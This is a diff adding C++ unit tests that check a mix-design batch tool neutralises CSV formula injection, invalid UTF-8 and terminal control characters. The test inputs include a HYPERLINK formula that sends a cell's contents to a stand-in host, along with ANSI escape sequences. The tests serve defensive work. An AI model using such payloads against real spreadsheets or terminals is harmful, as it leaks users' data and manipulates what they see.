@@ -132,9 +132,11 @@ TEST(Batch, BagSizeColumnFollowsTheOptionsRule)
     }
 }
 
-// A typed cell that a spreadsheet would run as a formula comes back as text, designed or not.
-TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
+// A typed cell comes back as text a spreadsheet neither runs as a formula nor misreads: never a
+// formula, designed or not, and never bytes that are not UTF-8 in a file marked UTF-8.
+TEST(Batch, CsvCellsReachASpreadsheetAsPlainText)
 {
+    using namespace std::string_literals;
     const std::pair<std::string, std::string> rows[] = {
         {"240,cube,10,2,no,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5",
          "240,cube,10.0,2,no,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5,"},
@@ -144,6 +146,12 @@ TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
         {"\"\t=1+1\",cube,10,2,no,,5", "\"'\t=1+1\",cube,10.0,2,no,,5,"},
         {"\"\r=1+1\",cube,10,2,no,,5", "\"'\r=1+1\",cube,10.0,2,no,,5,"},
         {"240,cube,10,2,no,,-5", "240,cube,10.0,2,no,,-5,"}, // a number, never run
+        // Saved on Thai Windows (code page 874: ก is A1), or with a NUL: each such byte is U+FFFD.
+        {"240,cube,10,2,no,\xA1\xA2,5\0"s, "240,cube,10.0,2,no,\xEF\xBF\xBD\xEF\xBF\xBD,5\xEF\xBF\xBD,"},
+        {"\"=\xE9\",cube,10,2,no,,5", "\"'=\xEF\xBF\xBD\",cube,10.0,2,no,,5,"},
+        // A message quotes the cell as a terminal may show it.
+        {"240,\x1b[2J\xA1,10,2,no,,5", ",,,,,,,,,,,,,,,,,,,,malformed_row,\"line 2: specimen must be cube, cylinder or "
+                                       "empty, not '\\x1b[2J\\xa1'\"\r\n"},
     };
     for (const auto& [input, start] : rows) {
         std::istringstream in(kHeader + input + "\n");
@@ -155,5 +163,33 @@ TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
         const std::string text = out.str();
         const std::string row = text.substr(text.find("\r\n") + 2);
         EXPECT_EQ(row.substr(0, start.size()), start) << input;
+    }
+}
+
+// A header is told on standard error, a row's message in the output: neither carries a control
+// character of the input to a terminal.
+TEST(Batch, MessagesEscapeTheControlsOfTheInput)
+{
+    struct Case {
+        std::string input;
+        int status;
+        std::string out;
+        std::string err;
+    };
+    const Case cases[] = {
+        {"strength,\x1b[31mred\n", 65, "", "mixdesign: line 1: unknown column '\\x1b[31mred'\n"},
+        {kHeader + "240,cube,10,2,\x1b[5m,,5\n", 2,
+         "{\"schema\":1,\"error\":\"malformed_row\",\"line\":2,\"message\":\"line 2: admixture must be yes, no or "
+         "empty, not '\\\\x1b[5m'\"}\n",
+         "mixdesign: 1 of 1 rows not designed\n"},
+    };
+    for (const auto& c : cases) {
+        std::istringstream in(c.input);
+        std::ostringstream out, err;
+        Options options;
+        options.batchFile = "-";
+        EXPECT_EQ(runBatch(in, out, err, options), c.status) << c.input;
+        EXPECT_EQ(out.str(), c.out) << c.input;
+        EXPECT_EQ(err.str(), c.err) << c.input;
     }
 }
